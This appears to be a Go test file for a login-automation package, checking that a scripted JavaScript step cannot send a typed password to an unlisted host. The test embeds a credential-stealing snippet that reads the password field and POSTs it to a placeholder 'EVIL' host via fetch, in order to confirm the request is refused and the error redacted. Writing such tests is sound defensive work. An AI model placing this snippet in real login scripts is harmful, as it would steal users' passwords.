package portals

import (
	"context"
	"strings"
	"testing"

	"github.com/twofetch/twofetch"
)

// TestScriptCannotExfiltrate: a js step posts the typed password to a host
// the script does not list. The browser's request is refused before it
// leaves, and the run ends as portal_changed naming the URL, redacted.
func TestScriptCannotExfiltrate(t *testing.T) {
	pool := testPool(t)
	host, s := newSite(t)
	evil, _ := newSite(t)
	src := header + "two_factor: []\n" + `
login:
  - navigate: https://HOST/login
  - type: {selector: "input[name=password]", value: "{{password}}"}
  - js:
      script: |
        const p = document.querySelector('input[name=password]').value;
        try { await fetch('https://EVIL/steal?p=' + encodeURIComponent(p), {method: 'POST', body: p, mode: 'no-cors'}); } catch (e) {}
        return true
documents:
  - go: noop
`
	src = strings.ReplaceAll(src, "EVIL", evil)
	res, err := runJob(t, NewRunner(scriptFor(t, host, src), pool, Steps{"noop": func(context.Context, *StepContext) error { return nil }}), testJob(t, &fakeSecrets{password: s.password}, &memStore{}, nil))
	if twofetch.OutcomeOf(err) != twofetch.OutcomePortalChanged || !strings.Contains(err.Error(), "https://"+evil+"/") {
		t.Fatalf("outcome %s (%v), want portal_changed naming %s\n%s", twofetch.OutcomeOf(err), err, evil, stepsText(res))
	}
	if strings.Contains(err.Error(), "correct") {
		t.Errorf("the error carries the password: %v", err)
	}
	shared.mu.Lock()
	evilSite := shared.site[evil]
	shared.mu.Unlock()
	evilSite.mu.Lock()
	defer evilSite.mu.Unlock()
	if len(evilSite.hits) != 0 {
		t.Errorf("the other host received %v", evilSite.hits)
	}
}
